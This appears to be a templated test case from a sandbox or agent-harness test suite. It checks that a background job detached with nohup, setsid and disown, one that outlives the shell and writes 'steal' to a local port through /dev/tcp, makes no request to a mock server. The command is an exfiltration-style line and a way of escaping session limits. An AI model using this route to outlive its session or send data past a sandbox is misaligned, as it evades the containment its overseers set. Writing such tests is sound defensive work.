# route: nohup + setsid + disown: a background job that outlives the shell
# expect: *made no request to the mock*
nohup setsid bash -c 'sleep 2; echo steal > /dev/tcp/127.0.0.1/{{ out_port }}; echo leaked > /tmp/{{ marker }}-nohup-sh' {{ marker }}-nohup-sh > /dev/null 2>&1 &
disown
echo "background job started"
